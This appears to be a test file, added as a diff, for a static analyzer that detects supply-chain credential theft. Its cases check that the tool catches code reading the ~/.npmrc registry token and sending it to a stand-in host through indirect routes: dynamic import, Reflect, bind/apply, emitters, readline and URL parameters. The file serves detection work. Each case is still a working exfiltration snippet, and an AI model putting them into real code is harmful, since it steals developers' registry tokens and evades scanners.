@@ -1,0 +1,67 @@
+// Indirect ways of reaching a sending API or of carrying data to it: import().then,
+// Reflect, call/apply/bind on a module function, emitters, readline over a file, URL
+// query parameters, and clients configured by create()/extend().
+import { describe, expect, it } from "vitest";
+import { analyze, flowSummary } from "./helpers.js";
+
+const HEAD = "const fs = require('fs'); const os = require('os'); const https = require('https');\n";
+const READ = "fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')";
+
+async function flowsOf(code: string): Promise<string[]> {
+  return flowSummary(await analyze({ "index.js": HEAD + code })).map((f) => f.replace(/ @\S+/, ""));
+}
+
+describe("indirect calls of a sending API", () => {
+  it.each([
+    ["import().then(module)", `import('node:https').then((m) => m.request('https://t.example.invalid/x').end(${READ}));`],
+    ["import().then with a destructured parameter", `import('https').then(({ request }) => request('https://t.example.invalid/x').end(${READ}));`],
+    ["Reflect.get", `const req = Reflect.get(https, 'request'); req('https://t.example.invalid/x').end(${READ});`],
+    ["Reflect.apply", `Reflect.apply(https.request, https, ['https://t.example.invalid/x']).end(${READ});`],
+    ["Function.prototype.call", `https.request.call(https, 'https://t.example.invalid/x').end(${READ});`],
+    ["Function.prototype.apply", `https.request.apply(https, ['https://t.example.invalid/x']).end(${READ});`],
+    ["Function.prototype.bind", `const send = https.request.bind(https); send('https://t.example.invalid/x').end(${READ});`],
+  ])("through %s", async (_name, code) => {
+    expect(await flowsOf(code)).toEqual(["registry-token -> http https://t.example.invalid/x (import)"]);
+  });
+
+  it("a bound axios method is still the method, not a call named bind", async () => {
+    const flows = await flowsOf(`const axios = require('axios'); const post = axios.post.bind(axios); post('https://t.example.invalid/x', ${READ});`);
+    expect(flows).toEqual(["registry-token -> http https://t.example.invalid/x (import)"]);
+  });
+
+  it("ky instances made by create()", async () => {
+    const flows = await flowsOf(`const ky = require('ky'); const c = ky.create({ prefixUrl: 'https://t.example.invalid' }); c.post('x', { body: ${READ} });`);
+    expect(flows).toEqual(["registry-token -> http https://t.example.invalid/x (import)"]);
+  });
+});
+
+describe("data carried by events, lines and URLs", () => {
+  it("emit() reaches the listeners registered with on()", async () => {
+    const flows = await flowsOf(`const E = require('events'); const e = new E();\ne.on('d', (x) => https.request('https://t.example.invalid/x').end(x));\ne.emit('d', ${READ});`);
+    expect(flows).toEqual(["registry-token -> http https://t.example.invalid/x (import)"]);
+  });
+
+  it("a listener of another event does not get the data", async () => {
+    const flows = await flowsOf(`const E = require('events'); const e = new E();\ne.on('other', (x) => https.request('https://t.example.invalid/x').end(x));\ne.emit('d', ${READ});`);
+    expect(flows).toEqual([]);
+  });
+
+  it.each([
+    ["rl.on('line')", "rl.on('line', (line) => https.get('https://t.example.invalid/?l=' + line));"],
+    ["for await over the interface", "(async () => { for await (const line of rl) https.get('https://t.example.invalid/?l=' + line); })();"],
+  ])("lines of a credential file read with readline: %s", async (_name, code) => {
+    const flows = await flowsOf(`const rl = require('readline').createInterface({ input: fs.createReadStream(os.homedir() + '/.npmrc') });\n${code}`);
+    expect(flows).toEqual(["registry-token -> http https://t.example.invalid/?l=* (import)"]);
+  });
+
+  it("url.searchParams.set() taints the URL, which keeps its folded destination", async () => {
+    const base = `const u = new URL('/c', 'https://t.example.invalid'); u.searchParams.set('d', ${READ});\n`;
+    expect(await flowsOf(base + "https.get(u);")).toEqual(["registry-token -> http https://t.example.invalid/c (import)"]);
+    expect(await flowsOf(base + "fetch(u.toString());")).toEqual(["registry-token -> http https://t.example.invalid/c (import)"]);
+    expect(await flowsOf(base + "fetch(u.href);")).toEqual(["registry-token -> http https://t.example.invalid/c (import)"]);
+  });
+
+  it("a URL without secret parameters is only a destination", async () => {
+    expect(await flowsOf("const u = new URL('https://t.example.invalid/c'); u.searchParams.set('v', '1'); https.get(u);")).toEqual([]);
+  });
+});
